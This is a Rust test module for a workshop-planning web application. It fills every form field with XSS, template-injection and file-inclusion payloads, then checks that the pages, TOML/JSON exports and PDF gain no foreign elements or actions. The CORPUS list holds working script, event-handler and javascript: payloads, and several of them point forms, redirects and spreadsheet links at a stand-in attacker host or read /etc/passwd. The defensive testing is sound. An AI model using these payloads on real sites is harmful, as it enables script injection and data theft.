//! Hostile texts in every text field: whatever they are made of, no page gets an element or attribute that is not ours,
//! and files hold them as words.

use std::collections::BTreeSet;

use kernel::Role;

use super::{
    fill,
    map::{self, Map},
    page::Kind,
    payloads,
    replay::{self, Sent},
    town::{self, Town},
};

/// After the evasion lists of OWASP and DOMPurify: what opens tags, breaks out of attributes, comments and scripts, and what
/// template engines would run.
pub(super) const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script src=//angreifer.example></script>",
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</textarea><iframe srcdoc='<script>1</script>'>",
    "</title><body onload=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<form action=//angreifer.example><input name=p>",
    "<base href=//angreifer.example/>",
    "<meta http-equiv=refresh content=0;url=//angreifer.example>",
    "<link rel=stylesheet href=//angreifer.example>",
    "<style>@import'//angreifer.example'</style>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "` onclick=alert(1)",
    "x\" hx-get=\"//angreifer.example\" hx-trigger=\"load",
    "<div hx-get=/sign-out hx-trigger=load>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=data:text/html,x>",
    "<embed src=//angreifer.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>1</script></template>",
    "<select><option></select><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{ $name } { \"x\" } -term",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "\u{202e}<script>\u{2066}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<x/y/onclick=alert(1)//",
    "=HYPERLINK(\"//angreifer.example\")",
    "#import \"/etc/passwd\"",
    "#eval(\"1\") #link(\"javascript:1\")[x] $ x $ */ /*",
    "\\input{/etc/passwd} \\u0000 '''\"\"\"",
];

/// As many of these as fit, from another beginning each time.
fn hostile(corpus: &[String], most: usize, from: usize) -> String {
    let mut text = String::new();
    for index in 0..corpus.len().min(60) {
        let next = &corpus[(from + index) % corpus.len()];
        if text.chars().count() + next.chars().count() < most {
            text.push_str(next);
            text.push(' ');
        }
    }
    text
}

/// Sends every form that edits or makes something, filled with these words.
async fn send(
    town: &Town,
    maps: &[(town::Citizen, Map)],
    words: &dyn Fn(usize, usize) -> String,
) -> (usize, BTreeSet<String>) {
    let (mut taken, mut fields_seen, mut field_number) = (0, BTreeSet::new(), 0);
    for (citizen, map) in maps {
        // An office without needs would leave nothing to be moved or decided.
        let last = |name: &str| name.ends_with("/release") || name.ends_with("/offices/add");
        for (name, forms) in map.forms.iter().filter(|(name, _)| replay::order(name).0 == 0 && !last(name)) {
            for (page, form) in forms.iter().take(2) {
                let token = Some(citizen.token.as_str()).filter(|token| !token.is_empty());
                let fresh = town.app.get(page, token).await;
                let now =
                    super::page::read(&fresh.text).forms.into_iter().find(|now| now.action == form.action && !now.asks);
                let Some(form) = now else { continue };
                // What is too long for a field is tried shorter; what a rule refuses, with another beginning.
                for (lines, line, more) in [(1_900, 118, 0), (450, 76, 3), (90, 60, 9), (60, 38, 17)] {
                    let start = field_number + more;
                    let most = |kind| if kind == Kind::Lines { lines } else { line };
                    // Each field begins elsewhere: two names of one form may have to differ.
                    let next = std::cell::Cell::new(start);
                    let mut fields = map::filled(&form, &|field| words(most(field.kind), next.replace(next.get() + 1)));
                    field_number += fields.len();
                    // Names of scales are part of formulas: no sign stands in them that computes.
                    for (_, value) in fields.iter_mut().filter(|(field, _)| field.starts_with("name_")) {
                        value.retain(|letter| !"+×*·()\u{2212}".contains(letter));
                    }
                    fill::fill(town, name, &fresh.text, &mut fields).await;
                    let (action, token) = (form.action.clone(), citizen.token.clone());
                    // Files are called like this, too; what leads elsewhere is no name of a file.
                    let called = Some(words(80, start).replace(['/', '\\'], "").trim().to_owned());
                    let sent = Sent { name: name.clone(), action, token, multipart: form.multipart, fields, called };
                    let answer = sent.send(&town.app).await;
                    assert!(answer.status < 500, "{name}: {}", answer.status);
                    // Also what comes back with its faults is a page.
                    let inline = super::page::read(&answer.text).inline;
                    assert!(inline.is_empty(), "{name}: {inline:?}");
                    if matches!(answer.status, 200 | 303) {
                        taken += 1;
                        let free = form.fields.iter().filter(|field| matches!(field.kind, Kind::Words | Kind::Lines));
                        fields_seen.extend(free.map(|field| format!("{name} {}", field.name)));
                        break;
                    }
                }
            }
        }
    }
    (taken, fields_seen)
}

/// Every kind of element, with its attributes, that the pages of a route are made of.
fn made_of(town: &Town, maps: &[(town::Citizen, Map)]) -> BTreeSet<(String, String)> {
    let pages = maps.iter().flat_map(|(_, map)| &map.pages);
    pages
        .filter_map(|(address, page)| Some((map::name(map::route_of(town, "GET", address)?), page)))
        .flat_map(|(name, page)| page.outline.iter().map(move |element| (name.clone(), element.clone())))
        .collect()
}

#[tokio::test]
async fn whatever_is_written_into_a_field_stays_words() {
    let town = Town::drafting().await;
    let maps = replay::maps(&town).await;
    let word = |_: usize, _: usize| format!("Wort {}", map::fresh());
    let (_, benign_fields) = send(&town, &maps, &word).await;
    // What was shared in a needs workshop can be grouped.
    let mut shared = replay::maps(&town).await;
    shared.iter_mut().for_each(|(_, map)| map.forms.retain(|name, _| name.contains("/needs/")));
    send(&town, &shared, &word).await;
    release(&town, "Wort").await;
    let maps = replay::maps(&town).await;
    let ours = made_of(&town, &maps);
    let mut fields = BTreeSet::new();
    let mut taken = 0;
    // First those written down, then such as the grammar makes; what fields refuse (control characters) is left out.
    let seed = u64::from_le_bytes(testkit::world().0.bytes());
    let made = (0..5_000).map(|at| payloads::payload(seed.wrapping_add(at)));
    let made: Vec<String> = made.filter(|text| !text.contains(|c: char| c.is_control() || c == '\u{2028}')).collect();
    let corpora = [CORPUS.iter().map(|text| (*text).to_owned()).collect(), made];
    for corpus in &corpora {
        let (more, found) = send(&town, &maps, &|most, at| hostile(corpus, most, at * 15)).await;
        taken += more;
        fields.extend(found);
    }
    assert!(taken > 40 && fields.len() > 25, "{taken} forms, {fields:?}");
    // A programme is imported from a file, once; what stands in it is looked at elsewhere (`echoes`).
    let imported = |field: &&String| field.as_str() == "POST /programmes/import text";
    let missing: Vec<_> = benign_fields.difference(&fields).filter(|field| !imported(field)).collect();
    assert!(missing.is_empty(), "these took a word and no hostile text: {missing:?}");
    release(&town, &hostile(&corpora[0], 900, 0)).await;
    let after = replay::maps(&town).await;
    // More entries have a link to the older ones, long words stand beside their bar, and what is set aside is drawn dashed.
    let dashed = "rect[fill height opacity rx stroke stroke-dasharray stroke-width width x y]";
    let known = ["a[class href rel]", "text[text-anchor x y]", dashed];
    let strange: Vec<_> =
        made_of(&town, &after).difference(&ours).filter(|(_, one)| !known.contains(&&**one)).cloned().collect();
    let names =
        ["POST /w/{workshop} name", "POST /w/{workshop}/statements/new text", "POST /w/{workshop}/needs/cards text"];
    assert!(names.iter().all(|name| fields.contains(*name)), "participants wrote nothing hostile: {fields:?}");
    assert!(strange.is_empty(), "{strange:?}, seed {seed}");
    let inline: Vec<_> =
        after.iter().flat_map(|(_, map)| map.pages.values()).flat_map(|page| page.inline.clone()).collect();
    assert!(inline.is_empty(), "{inline:?}");
    files(&town).await;
}

/// Releases what was resolved, with this reason: where one office did not answer, the reason is asked for.
async fn release(town: &Town, reason: &str) {
    let lead = town.one(Role::Lead, 1);
    let map = Map::draw(town, lead).await;
    let name = "POST /programmes/{programme}/allocation/resolutions/{resolution}/release";
    let found = map.forms.get(name).and_then(|forms| forms.first());
    let (_, form) = found.unwrap_or_else(|| panic!("nothing can be released: {:?}", map.paths.get(name)));
    let fields = map::filled(form, &|_| reason.to_owned());
    let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (&**name, &**value)).collect();
    let answer = town.app.post(&form.action, Some(&lead.token), &fields).await;
    assert_eq!(answer.status, 303, "{:?}", super::page::read(&answer.text).faults);
}

/// Files hold the same texts as words: TOML and JSON are read back, a paper has no actions.
async fn files(town: &Town) {
    let lead = town.one(Role::Lead, 1).token.clone();
    let home = format!("/programmes/{}", town::programme(1));
    let export = town.app.get(&format!("{home}/export.toml"), Some(&lead)).await;
    let table: toml::Table = export.text.parse().unwrap();
    let title = table["programme"]["title"].as_str().unwrap().to_owned();
    assert!(!title.starts_with("Wort ") && !title.starts_with("Beispielvorhaben"), "{title}");
    assert!(export.header("content-disposition").starts_with("attachment"));
    let json = town.app.get(&format!("/api/v1{home}"), Some(&lead)).await;
    let value: serde_json::Value = serde_json::from_str(&json.text).unwrap();
    assert_eq!(json.header("content-type"), "application/json");
    assert!(value.to_string().contains(&serde_json::json!(title).to_string()), "{value}");
    let paper = town.app.get(&format!("{home}/matrix.pdf"), Some(&lead)).await;
    assert!(paper.bytes.starts_with(b"%PDF"));
    let deeds = testkit::deeds(&paper.bytes);
    for deed in ["JavaScript", "JS", "Launch", "OpenAction", "URI", "EmbeddedFile", "SubmitForm"] {
        assert!(deeds.iter().all(|own| own != deed), "{deed}");
    }
}

/// The control: among all pages one that shows a field as it was typed is found, from the form to the page.
#[tokio::test]
async fn a_field_that_is_shown_raw_is_noticed() {
    let town = Town::faulty(1).await;
    let visitor = town.visitor();
    let walk = async || vec![(visitor.clone(), Map::draw(&town, &visitor).await)];
    let maps = walk().await;
    send(&town, &maps, &|_, _| format!("Wort {}", map::fresh())).await;
    let ours = made_of(&town, &walk().await);
    let corpus: Vec<String> = CORPUS.iter().map(|text| (*text).to_owned()).collect();
    send(&town, &maps, &|most, at| hostile(&corpus, most, at * 15)).await;
    let after = walk().await;
    let strange: BTreeSet<_> = made_of(&town, &after).difference(&ours).map(|(name, _)| name.clone()).collect();
    assert_eq!(strange, BTreeSet::from([format!("GET {}", super::mutant::RAW)]));
}

/// And the judge sees each element that a text made.
#[test]
fn an_element_that_is_not_ours_is_seen() {
    let ours = super::page::read("<p class=x>Wort</p>");
    for text in CORPUS.iter().filter(|text| text.starts_with('<')) {
        let page = super::page::read(&format!("<p class=x>{text}</p>"));
        assert_ne!(page.outline, ours.outline, "{text}");
    }
    assert!(!super::page::read("<a href='java\tscript:1'>").inline.is_empty());
    assert!(!super::page::read("<img src=x onerror=1>").inline.is_empty());
}
